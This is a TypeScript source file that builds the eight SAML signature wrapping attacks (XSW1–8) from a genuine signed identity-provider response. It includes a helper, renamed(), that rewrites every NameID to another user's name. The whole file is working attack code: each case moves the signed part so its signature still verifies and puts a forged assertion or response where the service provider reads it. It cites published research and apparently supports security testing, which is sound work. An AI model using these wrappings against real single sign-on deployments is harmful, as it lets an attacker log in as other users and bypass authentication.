import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

/**
 * The signature wrapping attacks XSW1–8 (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012;
 * numbered as SAML Raider does): a genuine signed message is moved to where its signature still verifies, and a forged part
 * stands where it is read. Each is made from a real response of the identity provider.
 */
export const wrappings = ["XSW1", "XSW2", "XSW3", "XSW4", "XSW5", "XSW6", "XSW7", "XSW8"] as const;
export type Wrapping = (typeof wrappings)[number];

const XMLDSIG = "http://www.w3.org/2000/09/xmldsig#";
const SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";

/**
 * @param xml a response whose assertion is signed, and, for XSW1 and XSW2, the response too
 * @param forge changes a copy of the part that was signed: the forgery
 */
export function wrap(xml: string, wrapping: Wrapping, forge: (part: Element) => void): string {
  const document = new DOMParser().parseFromString(xml, "text/xml");
  const response = document.documentElement;
  const assertion = only(response, "Assertion");
  const signatureOf = (element: Element) =>
    Array.from(element.childNodes).find((node) => (node as Element).localName === "Signature") as Element;
  const object = () => document.createElementNS(XMLDSIG, "ds:Object");
  const forged = (part: Element): Element => {
    const copy = part.cloneNode(true) as Element;
    copy.removeChild(signatureOf(copy));
    copy.setAttribute("ID", "_forged");
    forge(copy);
    return copy;
  };
  const bare = (part: Element): Element => {
    const copy = part.cloneNode(true) as Element;
    copy.removeChild(signatureOf(copy));
    return copy;
  };
  switch (wrapping) {
    case "XSW1": {
      // The forged response is the root and carries the genuine signature, which holds the genuine response.
      const evil = forged(response);
      const signature = signatureOf(response).cloneNode(true) as Element;
      signature.appendChild(bare(response));
      evil.insertBefore(signature, evil.childNodes[1] ?? null);
      document.replaceChild(evil, response);
      break;
    }
    case "XSW2": {
      // The same, with the genuine response before a detached signature.
      const evil = forged(response);
      evil.insertBefore(bare(response), evil.childNodes[1] ?? null);
      evil.insertBefore(signatureOf(response).cloneNode(true), evil.childNodes[2] ?? null);
      document.replaceChild(evil, response);
      break;
    }
    case "XSW3":
      response.insertBefore(forged(assertion), assertion);
      break;
    case "XSW4": {
      const evil = forged(assertion);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case "XSW5": {
      const evil = forged(assertion);
      evil.insertBefore(signatureOf(assertion).cloneNode(true), evil.childNodes[1] ?? null);
      const genuine = bare(assertion);
      response.replaceChild(evil, assertion);
      response.appendChild(genuine);
      break;
    }
    case "XSW6": {
      const evil = forged(assertion);
      const signature = signatureOf(assertion).cloneNode(true) as Element;
      signature.appendChild(bare(assertion));
      evil.insertBefore(signature, evil.childNodes[1] ?? null);
      response.replaceChild(evil, assertion);
      break;
    }
    case "XSW7": {
      const extensions = document.createElementNS(SAMLP, "saml2p:Extensions");
      const evil = forged(assertion);
      evil.setAttribute("ID", assertion.getAttribute("ID") ?? "");
      extensions.appendChild(evil);
      response.insertBefore(extensions, assertion);
      break;
    }
    case "XSW8": {
      const evil = forged(assertion);
      evil.setAttribute("ID", assertion.getAttribute("ID") ?? "");
      const signature = signatureOf(assertion).cloneNode(true) as Element;
      const holder = object();
      holder.appendChild(bare(assertion));
      signature.appendChild(holder);
      evil.insertBefore(signature, evil.childNodes[1] ?? null);
      response.replaceChild(evil, assertion);
      break;
    }
  }
  return new XMLSerializer().serializeToString(document);
}

function only(parent: Element, name: string): Element {
  const [element] = Array.from(parent.getElementsByTagNameNS("*", name));
  if (!element) throw new Error(`There is no ${name}.`);
  return element;
}

/** Puts another name into every NameID of a part. */
export function renamed(nameId: string): (part: Element) => void {
  return (part) => {
    for (const element of Array.from(part.getElementsByTagNameNS("*", "NameID")))
      element.textContent = nameId;
  };
}
